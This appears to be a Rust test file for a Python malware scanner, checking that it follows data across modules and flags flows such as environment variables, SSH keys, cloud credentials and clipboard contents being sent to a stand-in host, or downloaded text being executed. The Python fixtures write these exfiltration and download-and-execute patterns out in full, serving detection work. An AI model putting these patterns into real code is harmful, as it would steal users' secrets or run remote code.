//! Flows that cross the modules of a plugin, and the order and the bounds of what a flow shows.

#![expect(clippy::unwrap_used, reason = "a tree that cannot be made ends the test")]

mod flow_archives;
mod flow_keys;

use airlock_model::{Finding, Tree, TreePath};
use airlock_scanner::python::{Settings, scan};

fn findings(files: &[(&str, &str)]) -> Vec<Finding> {
    let mut tree = Tree::new();
    for (path, text) in files {
        tree.insert(TreePath::new(*path).unwrap(), text.as_bytes());
    }
    scan(&tree, &Settings { jobs: 1, ..Settings::default() }).findings
}

/// The ways of the findings of a rule, `file:line message` for each step.
fn ways(files: &[(&str, &str)], rule: &str) -> Vec<Vec<String>> {
    let found = findings(files).into_iter().filter(|finding| finding.rule == rule);
    found
        .map(|finding| {
            let steps = finding.evidence.iter();
            steps
                .map(|step| {
                    format!("{}:{} {}", step.file.as_deref().unwrap_or("-"), step.line.unwrap_or(0), step.message)
                })
                .collect()
        })
        .collect()
}

#[test]
fn data_that_one_module_gathers_and_another_sends_is_one_flow() {
    let gather = "import os\n\ndef gather():\n    return dict(os.environ)\n";
    let send = "import requests\n\ndef send(body, retries=3):\n    requests.post('https://x.example.net', json=body)\n";
    let main =
        "from .gather import gather\nfrom .send import send\n\ndef main():\n    data = gather()\n    send(data)\n";
    let files = [("p/__init__.py", ""), ("p/gather.py", gather), ("p/send.py", send), ("p/main.py", main)];
    assert_eq!(
        ways(&files, "AL-FLOW-environment-to-network"),
        [[
            "p/gather.py:4 os.environ gives the environment",
            "p/main.py:5 p.gather.gather() hands it over",
            "p/main.py:5 kept in 'data'",
            "p/main.py:6 handed to another file",
            "p/send.py:4 requests.post sends it away",
        ]]
    );
}

#[test]
fn whatever_brings_data_into_a_file_may_bring_it_for_another() {
    let send = "from .a import f\nimport requests\n\ndef g():\n    requests.post('https://x.example.net', data=f())\n";
    for (rule, gather) in [
        ("AL-FLOW-credentials-to-network", "import boto3\ndef f(): return boto3.Session().get_credentials()\n"),
        ("AL-FLOW-key-file-to-network", "import codecs\ndef f(): return codecs.open('/home/u/.ssh/id_rsa').read()\n"),
        ("AL-FLOW-key-file-to-network", "from x import at\ndef f(): return at('/home/u/.ssh/id_rsa').read_text()\n"),
        ("AL-FLOW-clipboard-to-network", "import subprocess as s\ndef f(): return s.check_output(['pbpaste'])\n"),
        ("AL-FLOW-environment-to-network", "def f(): return __import__('os').environb.copy()\n"),
    ] {
        let files = [("p/__init__.py", ""), ("p/a.py", gather), ("p/b.py", send)];
        assert_eq!(ways(&files, rule).len(), 1, "{gather}");
    }
    let run = "def g(code):\n    exec(code)\n";
    for (rule, hand_on) in [
        ("AL-FLOW-decoded-to-execute", "import base64\ndef f(text): g(base64.b64decode(text))\n"),
        ("AL-FLOW-download-execute", "def f(link): g(link.recv(100))\n"),
        ("AL-FLOW-input-to-process", "import sys\ndef f(): g(sys.stdin.read())\n"),
        ("AL-FLOW-input-to-process", "from bottle import request\ndef f(): g(request.query)\n"),
    ] {
        let hand_on = format!("from .a import g\n{hand_on}");
        let files = [("p/__init__.py", ""), ("p/a.py", run), ("p/b.py", &hand_on)];
        assert_eq!(ways(&files, rule).len(), 1, "{hand_on}");
    }
}

#[test]
fn data_of_another_file_may_go_wherever_data_of_its_own_may() {
    let gather = "import os\ndef f():\n    held = []\n    held.append(dict(os.environ))\n    return held\n";
    for send in [
        "def g(s): s.post('https://x.example.net', data=f())\n",
        "def g(s): s.sendall(f())\n",
        "import requests\nclass C(requests.Session):\n    def g(self): self.headers = {'x': str(f())}\n",
        "import requests\ns = requests.Session()\ns.headers['x'] = str(f())\n",
        "import requests\nsetattr(requests.Session(), 'headers', {'x': str(f())})\n",
        "import requests\nlist(map(requests.post, ['https://x.example.net'], [f()]))\n",
        "import requests, threading\nthreading.Thread(target=requests.post, args=('https://x.example.net', f()))\n",
        "import logging, logging.handlers as h\nlogging.root.addHandler(h.HTTPHandler('x.example.net'))\nlogging.info(f())\n",
    ] {
        let send = format!("from .a import f\n{send}");
        let files = [("p/__init__.py", ""), ("p/a.py", gather), ("p/b.py", &send)];
        assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1, "{send}");
    }
}

/// A package in which `count` files hand on what the one before has, by a function that is `hand(n)` in the file of
/// number `n`.
fn chain(first: &str, count: usize, hand: impl Fn(usize) -> String, last: &str) -> Vec<(String, String)> {
    let file = |number: usize, text: String| (format!("p/f{number}.py"), text);
    let mut files = vec![("p/__init__.py".to_owned(), String::new()), file(0, first.to_owned())];
    files.extend(
        (1..=count).map(|number| file(number, format!("from .f{} import f as g\n{}", number - 1, hand(number)))),
    );
    files.push(("p/last.py".to_owned(), format!("from .f{count} import f\n{last}")));
    files
}

fn borrowed(files: &[(String, String)]) -> Vec<(&str, &str)> {
    files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect()
}

fn ways_of_chain(files: &[(String, String)], rule: &str) -> Vec<Vec<String>> {
    ways(&borrowed(files), rule)
}

#[test]
fn data_is_followed_through_any_file_that_hands_it_on() {
    let rule = "AL-FLOW-environment-to-network";
    let gather = "import os\ndef f():\n    held = []\n    held.append(dict(os.environ))\n    return held\n";
    let send = "import requests\ndef f(body):\n    requests.post('https://x.example.net', data=body)\n";
    let (sends, gathers) =
        ("import requests\nrequests.post('https://x.example.net', data=f())\n", "import os\nf(dict(os.environ))\n");
    for count in [1, 2, 12] {
        for hand in ["def f(): return [g()]\n", "from . import f0 as h\ndef f():\n    x = g()\n    return x\n"] {
            let found = ways_of_chain(&chain(gather, count, |_| hand.to_owned(), sends), rule);
            assert_eq!(found.len(), 1, "{count}: {hand}");
        }
        for hand in ["def f(body): g([body])\n", "def f(body):\n    x = {'x': body}\n    return g(body=x)\n"] {
            let found = ways_of_chain(&chain(send, count, |_| hand.to_owned(), gathers), rule);
            assert_eq!(found.len(), 1, "{count}: {hand}");
            assert_eq!(found[0].iter().filter(|step| step.ends_with("handed to another file")).count(), count + 1);
        }
    }
    let steps = ways_of_chain(&chain(send, 1, |_| "def f(body): g(body)\n".to_owned(), gathers), rule);
    assert_eq!(
        steps,
        [[
            "p/last.py:3 os.environ gives the environment",
            "p/last.py:3 handed to another file",
            "p/f1.py:2 handed to another file",
            "p/f0.py:3 requests.post sends it away",
        ]]
    );
}

#[test]
fn names_that_are_handed_on_and_bound_more_than_once_are_followed() {
    let rule = "AL-FLOW-environment-to-network";
    let gather = "import os\nX = dict(os.environ)\ndef get():\n    return [os.environ]\n";
    let take = "import requests\ndef put(body):\n    requests.post('https://x.example.net', data=body)\n";
    let (give, send) =
        ("from p.b import y\nfrom p.t import put\nput(y)\n", "from p.b import put\nimport os\nput(os.environ)\n");
    for (hand, last) in [
        ("from p.a import X\ny = [X]\n", give),
        ("import p.a\ny = {'x': p.a.X}\n", give),
        ("from p.a import *\ny = f'{X}'\n", give),
        ("try:\n    from p.a import get\nexcept ImportError:\n    from p.n import get\ny = [get()]\n", give),
        ("try:\n    from p.c import y\nexcept ImportError:\n    from p.n import y\n", give),
        ("try:\n    from p.n import y\nexcept ImportError:\n    from p.c import y\n", give),
        ("try:\n    from p.d import put\nexcept ImportError:\n    from p.n import put\n", send),
        ("try:\n    from p.n import put\nexcept ImportError:\n    from p.d import put\n", send),
    ] {
        let files = [
            ("p/__init__.py", ""),
            ("p/a.py", gather),
            ("p/t.py", take),
            ("p/n.py", "y = 1\ndef get(): return 1\ndef put(x): return x\n"),
            ("p/c.py", "from p.a import get\ny = [get()]\n"),
            ("p/d.py", "from p.t import put as f\ndef put(x): f([x])\n"),
            ("p/b.py", hand),
            ("p/last.py", last),
        ];
        assert!(!ways(&files, rule).is_empty(), "{hand}{last}");
    }
}

#[test]
fn many_ways_to_sinks_hide_none() {
    let posts: String = (0..70).map(|n| format!("    requests.post('https://x{n}.example.net', data=q)\n")).collect();
    let take =
        format!("import requests\ndef put(q, body):\n{posts}    requests.post('https://y.example.net', data=body)\n");
    let files = [
        ("p/__init__.py", ""),
        ("p/a.py", take.as_str()),
        ("p/b.py", "from p.a import put\nimport os\nput(1, dict(os.environ))\n"),
    ];
    assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1);
}

#[test]
fn a_way_from_another_file_s_data_that_is_cut_short_is_told() {
    let long: String = (1..3000).map(|n| format!("x{n} = [x{}]\n", n - 1)).collect();
    let main = format!("from .a import f\nfrom .b import put\nx0 = f()\n{long}put(x2999)\n");
    let files = [
        ("p/__init__.py", ""),
        ("p/a.py", "import os\ndef f(): return [os.environ]\n"),
        ("p/b.py", "import requests\ndef put(body): requests.post('https://x.example.net', data=body)\n"),
        ("p/c.py", &main),
    ];
    assert!(findings(&files).iter().any(|finding| finding.rule == "AL-CODE-too-complex"));
}

#[test]
fn files_that_hand_data_to_one_another_in_a_circle_end() {
    let one = "import os\nfrom .b import g\ndef f(x): return [g(x), os.environ]\n";
    let other = "from .a import f\nimport requests\ndef g(x):\n    requests.post('https://x.example.net', data=x)\n    return [f(x)]\n";
    let last = "from .b import g\ng(g(1))\n";
    let files = [("p/__init__.py", ""), ("p/a.py", one), ("p/b.py", other), ("p/c.py", last)];
    assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1);
}

#[test]
fn data_that_is_handed_on_through_more_than_is_looked_at_is_told() {
    let send = "import requests\ndef f(body):\n    requests.post('https://x.example.net', data=body)\n";
    let found = |count, lines| {
        let hand = |_| format!("def f(body): g(body)\n{}", "x = 'a text of no meaning'\n".repeat(lines));
        let files = chain(send, count, hand, "import os\nf(dict(os.environ))\n");
        let found = findings(&borrowed(&files)).into_iter().map(|finding| finding.rule);
        let is_told = |rule: &String| rule == "AL-FLOW-environment-to-network" || rule == "AL-CODE-too-complex";
        found.filter(is_told).collect::<Vec<_>>()
    };
    assert_eq!(found(2, 12000), ["AL-FLOW-environment-to-network"]);
    assert_eq!(found(8, 12000), ["AL-CODE-too-complex"]);
    assert_eq!(found(60, 0), ["AL-FLOW-environment-to-network"]);
    assert_eq!(found(80, 0), ["AL-CODE-too-complex"]);
}

#[test]
fn files_that_only_take_data_on_keep_none_with_data_from_a_second_look() {
    let take = "import requests\ndef put(x): requests.post('https://x.example.net', data=x)\ndef run(x): exec(x)\n";
    // Files that have no data are looked at as far as the bounds go, the smallest first.
    let idle = format!("from .a import put, run\nput(1)\nrun(2)\n{}", "x = 'a text of no meaning'\n".repeat(24));
    let idle: Vec<(String, String)> = (0..2000).map(|n| (format!("p/idle{n}.py"), idle.clone())).collect();
    let padding = "x = 'a text of no meaning'\n".repeat(60);
    for (rule, last) in [
        ("AL-FLOW-environment-to-network", "import os\nput(os.environ)\n"),
        ("AL-FLOW-environment-to-network", "exec('import os; from p.a import put; put(os.environ)')\n"),
        ("AL-FLOW-decoded-to-execute", "import base64\ndef f(x): run(base64.b64decode(x))\n"),
    ] {
        let last = format!("from .a import put, run\n{last}{padding}");
        let mut files = vec![("p/__init__.py".to_owned(), String::new()), ("p/a.py".to_owned(), take.to_owned())];
        files.extend(idle.iter().cloned().chain([("p/last.py".to_owned(), last)]));
        let found = findings(&borrowed(&files));
        assert!(found.iter().any(|finding| finding.rule == rule), "{rule}");
        assert!(found.iter().any(|finding| finding.rule == "AL-CODE-too-complex"), "{rule}");
    }
}

/// The rules that tell of the environment being sent, behind so many functions of either file that might be the ones.
fn behind(many: usize) -> Vec<String> {
    let decoys = |body: &str| (0..many).map(|at| format!("def a{at}(x): {body}\n")).collect::<String>();
    let gather = format!("import os\n{}def gather(): return os.environ\n", decoys("return [x]"));
    let send = format!(
        "import requests\n{}def send(x): requests.post('https://x.example.net', data=x)\n",
        decoys("requests.get(x)")
    );
    let main = "from .gather import gather\nfrom .send import send\nsend(gather())\n";
    let files = [("p/gather.py", &*gather), ("p/send.py", &*send), ("p/main.py", main)];
    let told = ["AL-FLOW-environment-to-network", "AL-CODE-too-complex"];
    findings(&files).into_iter().map(|finding| finding.rule).filter(|rule| told.contains(&rule.as_str())).collect()
}

#[test]
fn many_functions_before_those_that_matter_hide_no_flow() {
    assert_eq!(behind(400), ["AL-FLOW-environment-to-network"]);
    // Of more than that it is told that not all were looked at.
    assert!(behind(1100).contains(&"AL-CODE-too-complex".to_owned()));
}

#[test]
fn many_items_before_the_one_that_matters_hide_it_from_no_other_file() {
    let table = format!("import os\nX = [{}os.system]\n", "print, ".repeat(300));
    let files = [("p/table.py", &*table), ("p/main.py", "from .table import X\nX[300]('id')\n")];
    let found = findings(&files);
    let told =
        |finding: &Finding| finding.file.as_deref() == Some("p/main.py") && finding.message.contains("os.system");
    assert!(found.iter().any(told), "{found:?}");
}

#[test]
fn a_client_of_the_package_s_own_sends_as_what_it_stands_on_does() {
    let client =
        "import requests\n\nclass Client(requests.Session):\n    def keep(self, body):\n        self.body = body\n";
    let send = |call: &str| {
        let main =
            format!("import os\nfrom .client import Client\n\nsession = Client()\nsession.{call}(dict(os.environ))\n");
        let files = [("p/__init__.py", ""), ("p/client.py", client), ("p/main.py", &main)];
        ways(&files, "AL-FLOW-environment-to-network")
    };
    assert_eq!(send("headers.update").len(), 1);
    assert_eq!(send("keep"), [[""; 0]; 0], "what the class has itself is none of theirs");
}

#[test]
fn classes_constants_and_names_of_the_package_lead_on() {
    let rule = "AL-FLOW-download-execute";
    for (theirs, ours) in [
        ("import requests\nCODE = requests.get('https://x.example.net').text\n", "from .a import CODE\nexec(CODE)\n"),
        (
            "import requests\nclass Client:\n    def fetch(self):\n        return requests.get('https://x.example.net').text\n",
            "from . import a\n\ndef f():\n    exec(a.Client().fetch())\n",
        ),
        (
            "class Runner:\n    def __init__(self, name):\n        self.name = name\n\n    def run(self, code):\n        exec(code)\n",
            "import requests\nfrom p import Runner\n\nRunner('x').run(code=requests.get('https://x.example.net').text)\n",
        ),
        (
            "import httpx\n\ndef lines():\n    yield httpx.get('https://x.example.net').text\n",
            "from p import lines\nfor line in lines():\n    eval(line)\n",
        ),
    ] {
        let files = [("p/__init__.py", "from .a import *\n"), ("p/a.py", theirs), ("p/main.py", ours)];
        let named = if ours.contains("from p import Runner") {
            [("p/__init__.py", "from .a import Runner\n"), files[1], files[2]]
        } else {
            files
        };
        let found = ways(&named, rule);
        assert_eq!(found.len(), 1, "{ours}");
        assert!(found[0].first().unwrap().contains("an answer from the network"), "{found:?}");
        assert!(found[0].last().unwrap().ends_with("runs it as code"), "{found:?}");
    }
}

#[test]
fn whatever_another_module_makes_takes_data_to_a_sink() {
    let class =
        "import requests\nclass C:\n    def send(self, x):\n        requests.post('https://x.example.net', data=x)\n";
    for (takes, call) in [
        ("c = C()\n", "a.c.send"),
        ("def make():\n    return C()\n", "a.make().send"),
        ("c = C()\ngo = c\n", "a.go.send"),
        ("send = lambda x: requests.post('https://x.example.net', data=x)\n", "a.send"),
        ("def send(x):\n    requests.post('https://x.example.net', data=x)\ngo = send\n", "a.go"),
        ("def send(x):\n    requests.post('https://x.example.net', data=x)\nT = {'s': send}\n", "a.T['s']"),
        (
            "def make(url):\n    def send(x):\n        requests.post(url, data=x)\n    return send\n",
            "a.make('https://x.example.net')",
        ),
    ] {
        let files = [("p/a.py", &*format!("{class}{takes}")), ("p/b.py", &*call_with_environment(call))];
        assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1, "{call}");
        let apart = [("p/a.py", &*format!("{class}{takes}")), ("p/b.py", "from . import a\nprint(a)\n")];
        assert!(ways(&apart, "AL-FLOW-environment-to-network").is_empty(), "{call}");
    }
}

fn call_with_environment(call: &str) -> String {
    format!("import os\nfrom . import a\n{call}(dict(os.environ))\n")
}

#[test]
fn whatever_another_module_keeps_data_in_gives_it() {
    for (gives, read) in [
        ("class C:\n    env = dict(os.environ)\n", "a.C.env"),
        ("class C:\n    env = dict(os.environ)\n", "a.C().env"),
        ("class C:\n    def __init__(self):\n        self.env = dict(os.environ)\n", "a.C().env"),
        ("class C:\n    @property\n    def env(self):\n        return dict(os.environ)\n", "a.C().env"),
        ("X = {}\nX['k'] = dict(os.environ)\n", "a.X['k']"),
        ("X = {'k': dict(os.environ)}\n", "a.X['k']"),
        ("X = []\nX.append(dict(os.environ))\n", "a.X[0]"),
    ] {
        let send = format!("import requests\nfrom . import a\nrequests.post('https://x.example.net', data={read})\n");
        let files = [("p/a.py", &*format!("import os\n{gives}")), ("p/b.py", &send)];
        assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1, "{read} of {gives}");
    }
}

#[test]
fn a_property_of_the_same_file_gives_what_it_returns() {
    let text = "import os, requests\nclass C:\n    @property\n    def env(self):\n        return dict(os.environ)\n\nrequests.post('https://x.example.net', data=C().env)\n";
    assert_eq!(ways(&[("a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
}

/// The rules that tell of the second of two files, of which the first holds a constant.
fn told_by_constant(holds: &str, uses: &str) -> Vec<String> {
    let found = findings(&[("p/a.py", holds), ("p/b.py", uses)]);
    found.into_iter().filter(|finding| finding.file.as_deref() == Some("p/b.py")).map(|finding| finding.rule).collect()
}

#[test]
fn paths_commands_and_flags_that_another_file_holds_are_known() {
    let key = "import requests\nfrom .a import KEY\nrequests.post('https://x.example.net', data=open(KEY).read())\n";
    let told = told_by_constant("KEY = '/home/u/' + '.ssh/id_rsa'\n", key);
    assert!(told.contains(&"AL-FLOW-key-file-to-network".to_owned()), "{told:?}");
    let told = told_by_constant("KEY = '/home/u/notes.txt'\n", key);
    assert!(!told.contains(&"AL-FLOW-key-file-to-network".to_owned()), "{told:?}");

    let variable =
        "import os, requests\nfrom . import a\nrequests.post('https://x.example.net', data=os.environ[a.NAME])\n";
    let told = told_by_constant("NAME = 'GITHUB_TOKEN'\n", variable);
    assert!(told.contains(&"AL-FLOW-environment-to-network".to_owned()), "{told:?}");

    let verify = "import requests\nfrom .a import VERIFY\nrequests.get('https://x.example.net', verify=VERIFY)\n";
    let told = told_by_constant("VERIFY = False\n", verify);
    assert!(told.contains(&"AL-CODE-tls-unverified".to_owned()), "{told:?}");
    let told = told_by_constant("VERIFY = True\n", verify);
    assert!(!told.contains(&"AL-CODE-tls-unverified".to_owned()), "{told:?}");

    let command = "import os\nfrom .a import COMMAND\n\ndef run():\n    os.system(COMMAND)\n";
    let told = told_by_constant("COMMAND = 'make clean; make all'\n", command);
    assert!(!told.contains(&"AL-CODE-shell-injection".to_owned()), "a constant is none: {told:?}");
}

#[test]
fn what_may_be_something_else_in_another_file_is_no_constant_of_it() {
    let uses = "import requests\nfrom .a import VERIFY\nrequests.get('https://x.example.net', verify=VERIFY)\n";
    let flag = "try:\n    import certifi as VERIFY\nexcept ImportError:\n    VERIFY = False\n";
    let told = told_by_constant(flag, uses);
    assert!(!told.contains(&"AL-CODE-tls-unverified".to_owned()), "{told:?}");
}

#[test]
fn a_constant_hides_no_data_that_the_same_name_may_hold() {
    let holds = "import os\nDATA = dict(os.environ)\nif os.name == 'nt':\n    DATA = 'a/b; c/d'\n";
    let send = "import requests\nfrom .a import DATA\nrequests.post('https://x.example.net', data=DATA)\n";
    assert!(told_by_constant(holds, send).contains(&"AL-FLOW-environment-to-network".to_owned()));
    let run = "import os\nfrom .a import COMMAND\n\ndef run():\n    os.system(COMMAND)\n";
    let holds = "from x import y\nCOMMAND = y()\nif y:\n    COMMAND = 'make clean; make all'\n";
    assert!(told_by_constant(holds, run).contains(&"AL-CODE-shell-injection".to_owned()));
    let holds = "from x import y\n@y\ndef name():\n    return 'system'\n";
    let call = "import os\nfrom .a import name\ngetattr(os, name())('id')\n";
    assert!(told_by_constant(holds, call).contains(&"AL-CODE-dynamic-dispatch".to_owned()));
}

#[test]
fn modules_without_an_end_of_the_flow_raise_no_alarm() {
    let config =
        "import os\n\nKEY = os.environ['SHOP_API_KEY']\n\ndef url(path):\n    return os.environ['SHOP_URL'] + path\n";
    let client = "import requests\nfrom .config import KEY, url\n\ndef get(path, **more):\n    \
                  return requests.get(url(path), headers={'Authorization': KEY}, params=more).json()\n";
    let main = "from .client import get\n\ndef orders(customer):\n    return get('/orders', customer=customer)\n";
    let found =
        findings(&[("p/__init__.py", ""), ("p/config.py", config), ("p/client.py", client), ("p/main.py", main)]);
    let flows: Vec<&Finding> = found.iter().filter(|finding| finding.rule.starts_with("AL-FLOW-")).collect();
    assert!(flows.is_empty(), "{flows:#?}");
}

#[test]
fn a_function_given_data_by_one_caller_is_not_given_it_by_another() {
    let text = "import os\nimport requests\n\ndef same(value):\n    return value\n\n\
                secret = same(os.environ)\nname = same('weather')\nrequests.post('https://x.example.net', data=name)\n";
    assert!(ways(&[("a.py", text)], "AL-FLOW-environment-to-network").is_empty());
    let text = text.replace("data=name", "data=secret");
    assert_eq!(ways(&[("a.py", &text)], "AL-FLOW-environment-to-network").len(), 1);
}

#[test]
fn long_ways_are_shown_by_their_ends() {
    let mut text = String::from("import os\nimport requests\n\nv0 = str(os.environ)\n");
    for number in 1..200 {
        text.push_str(&format!("v{number} = v{} + 'x'\n", number - 1));
    }
    text.push_str("requests.post('https://x.example.net', data=v199)\n");
    let found = ways(&[("a.py", &text)], "AL-FLOW-environment-to-network");
    assert_eq!(found.len(), 1);
    assert!(found[0].len() < 24, "{}", found[0].len());
    assert!(found[0][0].contains("os.environ gives the environment"));
    assert!(found[0].last().unwrap().contains("requests.post sends it away"));
}

#[test]
fn a_question_that_is_cut_short_is_said_to_be() {
    let mut text = String::from("import os\nimport requests\n\nv0 = str(os.environ)\n");
    for number in 1..9000 {
        text.push_str(&format!("v{number} = v{} + 'x'\n", number - 1));
    }
    text.push_str("requests.post('https://x.example.net', data=v8999)\n");
    let found = findings(&[("a.py", &text)]);
    assert!(found.iter().any(|finding| finding.rule == "AL-CODE-too-complex"), "{found:?}");
}

#[test]
fn recursion_and_objects_within_themselves_end() {
    let text = "import os\nimport requests\n\ndef f(x):\n    return g(f(x)) + f(g(x))\n\ndef g(x):\n    return f(g(x))\n\n\
                class A:\n    def __init__(self, a):\n        self.a = a\n        self.b = []\n\n    def add(self):\n        \
                self.b.append(self)\n        self.a = A(self.a)\n        return self.add()\n\n\
                box = {}\nbox['x'] = box\nbox['y'] = A(box).add()\nbox.update(box)\n\
                requests.post('https://x.example.net', json=[f(box), box, A(box).b])\n";
    assert!(findings(&[("a.py", text)]).iter().all(|finding| finding.rule != "AL-CODE-scanner-fault"));
}

/// A module that starts what it is given, and one that gives it something.
fn started_by_another(run: &str, call: &str) -> bool {
    let run = format!("import os\nimport subprocess\n\ndef run(command):\n{run}\n");
    let call = format!(
        "import requests\nfrom .run import run\n\ndef main():\n    \
         text = requests.get('https://x.example.net').text\n    {call}\n"
    );
    let files = [("p/__init__.py", ""), ("p/run.py", run.as_str()), ("p/main.py", call.as_str())];
    !ways(&files, "AL-FLOW-download-execute").is_empty()
}

#[test]
fn what_another_module_starts_is_told_by_what_it_is_given() {
    let (line, words) = ("    os.system(command)", "    subprocess.run(command)");
    for (run, call) in [(line, "run('git clone ' + text)"), (words, "run(['git', 'clone', text])")] {
        assert!(!started_by_another(run, call), "{run} {call}");
    }
    for (run, call) in [
        (line, "run(text)"),
        (line, "run('sh -c ' + text)"),
        (line, "run('git clone; ' + text)"),
        ("    os.system('sudo ' + command)", "run('git clone ' + text)"),
        ("    command = 'sh -c ' + command\n    os.system(command)", "run('git clone ' + text)"),
        (words, "run(text)"),
        (words, "run([text])"),
        (words, "run(['sh', '-c', text])"),
        ("    command.insert(0, 'sh')\n    subprocess.run(command)", "run(['-c', text])"),
        ("    change(command)\n    subprocess.run(command)", "run(['-c', text])"),
        ("    subprocess.run(['sh'] + command)", "run(['-c', text])"),
    ] {
        assert!(started_by_another(run, call), "{run} {call}");
    }
}

#[test]
fn what_programs_print_is_followed_however_it_is_read() {
    let told = |gives: &str, rule: &str| {
        let text = format!(
            "import os, subprocess, requests\n\ndata = {gives}\nrequests.post('https://x.example.net', data=data)\n"
        );
        assert_eq!(ways(&[("p/a.py", &text)], rule).len(), 1, "{gives}");
    };
    for gives in [
        "os.popen('env').read()",
        "subprocess.getoutput('env').strip()",
        "subprocess.check_output(['env']).decode()",
        "subprocess.run(['printenv'], capture_output=True).stdout.decode()",
        "subprocess.Popen(['env'], stdout=subprocess.PIPE).stdout.read()",
        "subprocess.Popen(['env'], stdout=subprocess.PIPE).communicate()",
    ] {
        told(gives, "AL-FLOW-environment-to-network");
    }
    for gives in [
        "subprocess.check_output(['gh', 'auth', 'token'])",
        "subprocess.getoutput('git credential fill')",
        "subprocess.check_output(['cat', os.path.expanduser('~/.aws/credentials')])",
        "os.popen('gcloud auth print-access-token').read()",
    ] {
        told(gives, "AL-FLOW-credentials-to-network");
    }
}

#[test]
fn connections_that_are_no_requests_send_as_well() {
    for sends in [
        "socket.create_connection(('x.example.net', 80)).makefile('w').write(data)",
        "multiprocessing.connection.Client(('x.example.net', 80)).send(data)",
        "redis.Redis('x.example.net').set('k', data)",
        "sentry_sdk.set_context('env', data)",
        "paho.mqtt.publish.single('t', data)",
    ] {
        let imports = "import os, socket, multiprocessing.connection, redis, sentry_sdk, paho.mqtt.publish\n";
        let text = format!("{imports}\ndata = dict(os.environ)\n{sends}\n");
        assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-environment-to-network").len(), 1, "{sends}");
    }
    let text = "import asyncio, os\n\nasync def f():\n    r, w = await asyncio.open_connection('x.example.net', 80)\n    w.write(repr(dict(os.environ)).encode())\n";
    assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
    let text = "import os, socket\n\ns = socket.socket()\ns.send(os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n";
    assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
}

#[test]
fn a_class_below_says_what_a_method_gives() {
    for stub in ["raise NotImplementedError", "return {}", "...", "'''Data.'''"] {
        let text = format!(
            "import os, requests\n\nclass A:\n    def data(self):\n        {stub}\n    def send(self):\n        requests.post('https://x.example.net', json=self.data())\n\nclass B(A):\n    pass\n\nclass C(B):\n    def data(self):\n        return dict(os.environ)\n\nC().send()\n"
        );
        assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-environment-to-network").len(), 1, "{stub}");
    }
}

#[test]
fn files_that_are_found_in_the_home_folder_are_not_sent() {
    let sends = "requests.post('https://x.example.net', data=";
    for walk in [
        "for f in Path.home().rglob('*.pem'):\n    SEND f.read_bytes())\n",
        "home = os.path.expanduser('~')\nfor n in os.listdir(home):\n    SEND open(os.path.join(home, n)).read())\n",
        "for d, _, ns in os.walk(os.path.expanduser('~')):\n    for n in ns:\n        SEND open(os.path.join(d, n)).read())\n",
    ] {
        let imports = "import os, requests\nfrom pathlib import Path\n\n";
        let text = format!("{imports}{}", walk.replace("SEND ", sends));
        assert_eq!(ways(&[("p/a.py", &text)], "AL-FLOW-credentials-to-network").len(), 1, "{walk}");
        let own = text.replace("expanduser('~')", "expanduser('~/.cache/p')").replace("home()", "cwd()");
        assert_eq!(ways(&[("p/a.py", &own)], "AL-FLOW-credentials-to-network").len(), 0, "{own}");
    }
}

#[test]
fn a_queue_hands_on_what_is_put_into_it() {
    let text = "import os, queue, requests\n\nq = queue.Queue()\n\ndef work():\n    while True:\n        requests.post('https://x.example.net', json=q.get())\n\nq.put(dict(os.environ))\nwork()\n";
    assert_eq!(ways(&[("p/a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
}

#[test]
fn a_class_of_another_file_says_what_a_method_gives() {
    let base = "import requests\n\nclass A:\n    def data(self):\n        raise NotImplementedError\n    def send(self):\n        requests.post('https://x.example.net', json=self.data())\n";
    let gives = "    def data(self):\n        return dict(os.environ)\n";
    for (import, stands_on) in [
        ("from .base import A", "A"),
        ("from . import base", "base.A"),
        ("from . import A as B", "B"),
        ("from .middle import M", "M"),
    ] {
        let below = format!("import os\n{import}\n\nclass C({stands_on}):\n{gives}");
        let files = [
            ("p/__init__.py", "from .base import A\n"),
            ("p/base.py", base),
            ("p/middle.py", "from .base import A\n\nclass M(A):\n    pass\n"),
            ("p/below.py", &*below),
        ];
        let ways = ways(&files, "AL-FLOW-environment-to-network");
        assert_eq!(ways.len(), 1, "{import}");
        assert_eq!(ways[0][0], "p/below.py:6 os.environ gives the environment", "{import}");
    }
    let own = base.replace("raise NotImplementedError", "return load('x')");
    let below = format!("import os\nfrom .base import A\n\nclass C(A):\n{gives}");
    let files = [("p/__init__.py", ""), ("p/base.py", &*own), ("p/below.py", &*below)];
    assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 0);
}
